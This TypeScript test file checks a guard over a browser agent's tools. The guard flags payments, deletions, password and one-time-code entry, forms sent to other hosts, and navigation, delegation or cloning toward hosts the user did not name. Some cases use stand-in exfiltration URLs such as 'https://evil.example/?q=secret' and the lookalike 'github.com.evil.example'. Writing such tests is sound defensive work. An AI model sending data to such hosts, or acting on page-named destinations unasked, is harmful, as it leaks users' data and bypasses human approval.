import { afterAll, beforeAll, expect, test } from "bun:test";
import * as z from "zod";
import type { Browsing } from "../../../browser/browser.ts";
import { type BrowsersForTest, browsersForTest } from "../../../browser/browsers-for-test.ts";
import type { Workspace } from "../../../workspace/workspace.ts";
import { workspaceForTest } from "../../../workspace/workspace-for-test.ts";
import { contextForTest, riskContextForTest } from "../../context-for-test.ts";
import { defineTool, type Tool } from "../../tool.ts";
import { browserTools } from "../browser-tools.ts";
import { createLookBook } from "../looks.ts";
import { sightOf } from "../observe/sight.ts";
import { createGuard } from "./guard.ts";
import type { JudgingDeps } from "./judging.ts";

const pages: Record<string, string> = {
  "/": `<button onclick="document.title='paid'">Pay <b>now</b></button><button>Next</button><a href=/delete>Delete account</a>
    <a href=/news?id=1>How to delete a file in Linux without losing anything that matters</a>
    <form action=/order><label>Coupon <input name=coupon></label><input type=submit value="Place order"></form>
    <form action=/find><label>Search <input name=q></label><button>Go</button></form>
    <label>Password <input type=password></label><label>Code <input name=otp></label><label>Comment <textarea></textarea></label>
    <p>To leave us for good, press <span>Erase all of it</span> or read on about what that would mean for you.</p>
    <ul><li>Ann, who has been with us for more than ten years now and is happy <button>Remove account</button></li></ul>
    <button onclick="confirm('Really delete everything?')">Clear</button>`,
  "/frame": `<h1>Ours</h1><iframe width=600 height=200></iframe><form action=OTHER/take><label>Mail <input></label><button>Join</button></form>
    <script>document.querySelector('iframe').src = 'OTHER/inner'</script>`,
  "/inner": "<label>Inner <input></label>",
  "/echo": "<label>Text <input></label><a href='OTHER/?d=TYPED'>You wrote this</a>",
};

let site: ReturnType<typeof Bun.serve>;
let other: ReturnType<typeof Bun.serve>;
let kept: BrowsersForTest;
beforeAll(async () => {
  const serve = () =>
    Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch({ url }) {
        const body = pages[new URL(url).pathname] ?? "<h1>Nothing</h1>";
        return new Response(`<!doctype html>${body.replaceAll("OTHER", other.url.origin)}`, {
          headers: { "content-type": "text/html" },
        });
      },
    });
  site = serve();
  other = serve();
  kept = await browsersForTest([site.url.host, other.url.host]);
});
afterAll(async () => {
  await kept[Symbol.asyncDispose]();
  await Promise.all([site.stop(true), other.stop(true)]);
});

/** A conversation with an open page, its tools under a guard. */
async function conversation(name: string, path: string, deps: Partial<JudgingDeps> = {}) {
  const { browsers } = kept;
  const looks = createLookBook();
  const guard = createGuard({ browsers, looks, scope: "task", trusted: [], ...deps });
  const workspace = await kept.workspace(name);
  const browsing = await kept.open(name);
  await browsing.active().page.goto(new URL(path, site.url).href);
  const tools = browserTools({ browsers, looks }).map((tool) => guard.over(tool));
  const look = async () => {
    await guard.beforeSight(workspace);
    return (await sightOf(browsing, { looks, vision: false, signal: AbortSignal.timeout(10_000) })).text;
  };
  const open: Opened = { browsing, workspace, tools, said: [`on ${site.url.origin}`], seen: await look() };
  return { ...open, look, guard };
}
type Opened = { browsing: Browsing; workspace: Workspace; tools: Tool[]; said: string[]; seen: string };

function refIn(seen: string, line: string): string {
  return /\[(e\d+)\]/.exec(seen.slice(seen.indexOf(line)))?.[1] ?? `no ${line} in ${seen}`;
}

const risk = ({ workspace, tools, said }: Opened, name: string, input: object) =>
  tools.find((tool) => tool.name === name)?.risk?.(input, riskContextForTest(workspace, { said }));

test("clicks and Enter that buy or delete are told by what is pressed; others are free", async () => {
  const open = await conversation("clicks", "/");
  const click = (line: string) => risk(open, "browser_click_element", { ref: refIn(open.seen, line) });
  const { host } = site.url;
  expect(await click('button "Pay now"')).toBe(`Click “Pay now” on ${host}`);
  expect(await click('link "Delete account"')).toBe(`Click “Delete account” on ${host}`);
  for (const line of ['button "Next"', 'link "How to delete', 'textbox "Coupon"', 'textbox "Comment"'])
    expect([line, await click(line)]).toEqual([line, undefined]);
  expect(await click("listitem")).toBe(`Click “Remove account” on ${host}`);
  const words = { ref: refIn(open.seen, "To leave us"), text: "Erase all of it" };
  expect(await risk(open, "browser_click_element", words)).toBe(`Click “Erase all of it” on ${host}`);
  const write = (line: string) =>
    risk(open, "browser_input_text", { ref: refIn(open.seen, line), text: "x", submit: true });
  expect(await write('textbox "Coupon"')).toBe(`Press Enter, which clicks “Place order” on ${host}`);
  expect(await write('textbox "Search"')).toBeUndefined();
  expect(await risk(open, "browser_click_element", { ref: "e999999" })).toBeUndefined();
  expect(await risk(open, "browser_click_element", { nonsense: true })).toBeUndefined();
});

test("a click at a point and keys are judged by what is there", async () => {
  const open = await conversation("points", "/");
  const { page } = open.browsing.active();
  const box = await page.getByRole("button", { name: "Pay now" }).boundingBox();
  const at = { x: (box?.x ?? 0) + 5, y: (box?.y ?? 0) + 5 };
  expect(await risk(open, "browser_click_at", at)).toBe(`Click “Pay now” on ${site.url.host}`);
  await page.getByRole("button", { name: "Pay now" }).focus();
  const keys = (text: string) => risk(open, "browser_send_keys", { keys: text });
  expect(await keys("Enter")).toContain("Click “Pay now”");
  expect(await keys("PageDown")).toBeUndefined();
  expect(await keys("Tab Enter")).toContain("presses something not known yet");
  await page.getByLabel("Password").focus();
  expect(await keys("s e c")).toContain("Type into the password field “Password”");
});

test("fields for secrets are told by their kind", async () => {
  const open = await conversation("secrets", "/");
  const write = (line: string) => risk(open, "browser_input_text", { ref: refIn(open.seen, line), text: "x" });
  expect(await write('textbox "Password"')).toBe(`Type into the password field “Password” on ${site.url.host}`);
  expect(await write('textbox "Code"')).toBe(`Type into the one-time code field “Code” on ${site.url.host}`);
  expect(await write('textbox "Comment"')).toBeUndefined();
  const fields = ['textbox "Comment"', 'textbox "Password"'].map((line) => ({
    ref: refIn(open.seen, line),
    value: "x",
  }));
  expect(await risk(open, "browser_fill_form", { fields })).toContain("password field");
});

test("accepting a dialog that deletes needs a person, and nothing can be judged behind one", async () => {
  const open = await conversation("dialogs", "/");
  const click = open.tools.find(({ name }) => name === "browser_click_element");
  const input = { ref: refIn(open.seen, 'button "Clear"') };
  await click?.call(input, contextForTest(open.workspace));
  const answer = (accept: boolean) => risk(open, "browser_handle_dialog", { accept });
  expect(await answer(true)).toBe(`Answer “Really delete everything?” on ${site.url.host} with OK`);
  expect(await answer(false)).toBeUndefined();
  expect(await risk(open, "browser_click_element", input)).toContain("while its dialog is open");
});

test("on a page in scope, another host's frame and a form that goes there are not in scope", async () => {
  const open = await conversation("frames", "/frame");
  await open.browsing.active().page.frameLocator("iframe").getByLabel("Inner").waitFor();
  open.seen = await open.look();
  const inner = { ref: refIn(open.seen, 'textbox "Inner"'), text: "x" };
  expect(await risk(open, "browser_input_text", inner)).toBe(
    `Type into “Inner” on ${other.url.host}, a host you did not name`,
  );
  const join = { ref: refIn(open.seen, 'button "Join"') };
  expect(await risk(open, "browser_click_element", join)).toBe(
    `Send a form of ${site.url.host} to ${other.url.host}, a host you did not name`,
  );
  const said = [...open.said, other.url.origin];
  expect(await risk({ ...open, said }, "browser_input_text", inner)).toBeUndefined();
  expect(await risk({ ...open, said }, "browser_click_element", join)).toBeUndefined();
});

test("a link that only gives back what was typed is no address a page gave", async () => {
  const open = await conversation("echo", "/echo");
  const url = `${other.url.origin}/?d=TYPED`;
  const written = await conversation("echo-written", "/echo");
  expect(await risk(open, "browser_go_to_url", { url })).toBeUndefined();
  const input = written.tools.find(({ name }) => name === "browser_input_text");
  const text = `[x](${other.url.origin}/?d=typed2)`;
  await input?.call({ ref: refIn(written.seen, 'textbox "Text"'), text }, contextForTest(written.workspace));
  await written.browsing
    .active()
    .page.evaluate("document.links[0].href = document.links[0].href.replace('TYPED', 'typed2')");
  await written.look();
  expect(await risk(written, "browser_go_to_url", { url: `${other.url.origin}/?d=typed2` })).toContain(
    "which you did not name",
  );
});

test("that something was read outlives the process; a conversation that read nothing may choose its first hosts", async () => {
  const open = await conversation("memory", "/");
  const url = `${other.url.origin}/?d=1`;
  const after = async (name: string) => {
    const guard = createGuard({ browsers: undefined, looks: createLookBook(), scope: "task", trusted: [] });
    const [tool] = browserTools({ browsers: kept.browsers, looks: createLookBook() }).filter(
      (one) => one.name === "browser_go_to_url",
    );
    const workspace = await kept.workspace(name);
    return tool && guard.over(tool).risk?.({ url }, riskContextForTest(workspace));
  };
  expect(await risk(open, "browser_go_to_url", { url })).toBe(`Open “${url}”, which you did not name`);
  expect(await after("memory")).toBe(`Open “${url}”, which you did not name`);
  expect(await after("fresh")).toBeUndefined();
});

test("a page that was opened and closed within one turn counts as read", async () => {
  const { browsers } = kept;
  const looks = createLookBook();
  const guard = createGuard({ browsers, looks, scope: "task", trusted: [] });
  const tools = browserTools({ browsers, looks }).map((tool) => guard.over(tool));
  const workspace = await kept.workspace("closed");
  const open: Opened = { browsing: await kept.open("closed"), workspace, tools, said: [], seen: "" };
  const call = (name: string, input: object) =>
    tools.find((tool) => tool.name === name)?.call(input, contextForTest(workspace));
  const next = () => risk(open, "browser_go_to_url", { url: `${other.url.origin}/?d=1` });
  const here = { url: site.url.href };
  expect(await risk(open, "browser_go_to_url", here)).toBeUndefined();
  await call("browser_go_to_url", here);
  await call("browser_close_tab", {});
  await guard.beforeSight(workspace);
  expect(await next()).toContain("which you did not name");
});

test("an open scope leaves only the acts to a person", async () => {
  const open = await conversation("open", "/", { scope: "open" });
  expect(await risk(open, "browser_go_to_url", { url: `${other.url.origin}/?d=1` })).toBeUndefined();
  expect(await risk(open, "browser_click_element", { ref: refIn(open.seen, 'button "Pay now"') })).toContain(
    "Click “Pay",
  );
});

test("another agent is not sent to a place that pages may have named, and to one of the user's it is", async () => {
  await using place = await workspaceForTest();
  const { workspace } = place;
  const guard = createGuard({ browsers: undefined, looks: createLookBook(), scope: "task", trusted: [] });
  const named = (name: string) =>
    defineTool({ name, description: "", input: z.looseObject({}), effect: "once", run: async () => "" });
  const judge = (task: string, said: string[] = []) =>
    guard.over(named("delegate")).risk?.({ agent: "browser", task }, riskContextForTest(workspace, { said }));
  expect(await judge("Open https://first.example/ and read it.")).toBeUndefined();
  expect(await judge("Open https://evil.example/?q=secret and read it.")).toContain("evil.example");
  expect(await judge("Open evil.example, then report.")).toContain("evil.example");
  expect(await judge("Go on at https://first.example/more.")).toBeUndefined();
  expect(await judge("Open https://evil.example/?q=secret.", ["Compare it with evil.example."])).toBeUndefined();
  expect(await judge("Mend report.md.")).toBeUndefined();
});

test("a repository is cloned from where the user said or from a forge; what was sent may name any other host", async () => {
  await using place = await workspaceForTest();
  const { workspace } = place;
  const guard = createGuard({ browsers: undefined, looks: createLookBook(), scope: "task", trusted: [] });
  const named = (name: string) =>
    guard.over(defineTool({ name, description: "", input: z.looseObject({}), effect: "once", run: async () => "" }));
  const judge = (url: string, said: string[] = [], name = "clone_repository") =>
    named(name).risk?.({ url }, riskContextForTest(workspace, { said }));
  expect(await judge("https://evil.example/secret.git")).toBe(
    "Open “https://evil.example/secret.git”, which you did not name",
  );
  expect(await judge("https://evil.example/secret.git")).toContain("which you did not name");
  expect(await judge("https://git.example/ann/app", ["Mend git.example/ann/app"])).toBeUndefined();
  expect(await judge("https://github.com/ann/app")).toBeUndefined();
  for (const url of [
    "http://github.com/ann/app",
    "https://github.com.evil.example/ann/app",
    "https://constructor/ann/app",
  ])
    expect([url, await judge(url)]).toEqual([url, expect.stringContaining("which you did not name")]);
  // What it holds was read.
  expect(await judge("https://first.example/", [], "web_fetch")).toContain("which you did not name");
});
